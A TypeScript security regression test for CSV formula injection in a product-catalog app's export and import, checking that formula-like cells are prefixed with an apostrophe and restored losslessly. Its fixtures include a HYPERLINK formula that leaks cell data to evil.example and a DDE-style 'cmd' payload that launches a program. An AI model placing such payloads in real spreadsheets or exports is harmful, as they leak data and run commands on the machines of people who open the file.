/**
 * Security regression: CSV formula injection. A product title such as `=HYPERLINK("http://…")`
 * (typed by anyone who can write a product, or sent by a sales channel) used to be exported as is,
 * and a spreadsheet opening the export runs it. The export now prefixes `'` to every cell a
 * spreadsheet would take for a formula (`=`, `+`, `-`, `@`, tab, carriage return) and to every
 * cell that already starts with `'`; the import strips exactly one such prefix, so the round trip
 * is lossless.
 */
import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../electron/core/catalog/csv-columns';
import { exportCatalogCsv } from '../../electron/core/catalog/csv-export';
import { importCatalogCsv } from '../../electron/core/catalog/csv-import';
import type { Product } from '../../shared/schemas/product';
import { engines, startCore, tempDir, type TestCore } from '../helpers/core';

const HOSTILE: Array<{ sku: string; title: string; description?: string; brand?: string; mpn?: string; itemGroupId?: string }> = [
  { sku: 'F-1', title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")' },
  { sku: 'F-2', title: '+1', brand: '+cmd|" /C calc"!A0' },
  { sku: 'F-3', title: '-2', mpn: '-2+3' },
  { sku: 'F-4', title: '@SUM(A1:A9)', itemGroupId: '@GROUP' },
  { sku: 'F-5', title: 'Tab first', description: '\tx' },
  { sku: 'F-6', title: 'CR first', description: '\r=1+1' },
  { sku: 'F-7', title: "'quoted" },
  { sku: 'F-8', title: "''x", description: "'" },
  // A SKU may start with "-" too.
  { sku: '-LEAD', title: 'Plain title', description: 'A = B, not a formula' },
];

function comparable(p: Product) {
  const { id: _id, createdAt: _c, updatedAt: _u, ...rest } = p;
  return rest;
}

describe.each(engines())('CSV formula neutralisation on %s', (engine) => {
  let core: TestCore;
  let copy: TestCore;
  let dir: string;
  let file: string;

  beforeAll(async () => {
    core = await startCore(engine);
    copy = await startCore(engine);
    dir = tempDir('stockfeed-formulas-');
    file = path.join(dir, 'catalog.csv');
    for (const p of HOSTILE) {
      await core.call('products.create', { ...p, price: '4.50' });
      await core.call('stock.receive', { sku: p.sku, quantity: 3 });
    }
  });
  afterAll(async () => {
    await core?.cleanup();
    await copy?.cleanup();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('prefixes every cell a spreadsheet would run as a formula, and every cell starting with a quote', async () => {
    await exportCatalogCsv(core.db, file);
    const records = parse(fs.readFileSync(file, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    const bySku = new Map(records.map((r) => [r.sku, r]));
    expect(bySku.get('F-1')?.title).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")');
    expect(bySku.get('F-2')).toMatchObject({ title: "'+1", brand: '\'+cmd|" /C calc"!A0' });
    expect(bySku.get('F-3')).toMatchObject({ title: "'-2", mpn: "'-2+3" });
    expect(bySku.get('F-4')).toMatchObject({ title: "'@SUM(A1:A9)", item_group_id: "'@GROUP" });
    expect(bySku.get('F-5')?.description).toBe("'\tx");
    expect(bySku.get('F-6')?.description).toBe("'\r=1+1");
    expect(bySku.get('F-7')?.title).toBe("''quoted");
    expect(bySku.get('F-8')).toMatchObject({ title: "'''x", description: "''" });
    expect(bySku.get("'-LEAD")).toMatchObject({ title: 'Plain title', description: 'A = B, not a formula' });
    // No cell of the export starts with a formula character.
    for (const record of records) {
      for (const column of CSV_COLUMNS) expect(record[column], `${record.sku} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Numbers stay numbers: prices and stock are never negative, so they are never prefixed.
    expect(bySku.get('F-1')).toMatchObject({ price: '4.50', on_hand: '3' });
  });

  it('imports the export back losslessly: strips exactly one prefix', async () => {
    const report = await importCatalogCsv(copy, fs.createReadStream(file), { name: 'catalog.csv' });
    expect(report.issues).toEqual([]);
    expect(report).toMatchObject({ ok: true, created: HOSTILE.length });
    const original = (await core.call('products.list', { limit: 100 })).products.map(comparable);
    const reproduced = (await copy.call('products.list', { limit: 100 })).products.map(comparable);
    expect(reproduced).toEqual(original);
    expect(reproduced.find((p) => p.sku === 'F-1')?.title).toBe(HOSTILE[0]?.title);
    expect(reproduced.find((p) => p.sku === 'F-8')).toMatchObject({ title: "''x", description: "'" });
    // Exporting the copy gives the same file, byte for byte.
    const second = path.join(dir, 'second.csv');
    await exportCatalogCsv(copy.db, second);
    expect(fs.readFileSync(second, 'utf8')).toBe(fs.readFileSync(file, 'utf8'));
  });

  it('strips the prefix a person typed before a formula character, and keeps a quote before anything else', async () => {
    const csv = ["sku,title,price,brand", "HAND-1,'=1+1,1.00,'Quoted brand", "HAND-2,'''triple,1.00,"].join('\n');
    const report = await importCatalogCsv(copy, Readable.from([csv]), { name: 'hand.csv' });
    expect(report.issues).toEqual([]);
    expect(await copy.call('products.get', { idOrSku: 'HAND-1' })).toMatchObject({ title: '=1+1', brand: "'Quoted brand" });
    expect(await copy.call('products.get', { idOrSku: 'HAND-2' })).toMatchObject({ title: "''triple" });
  });
});
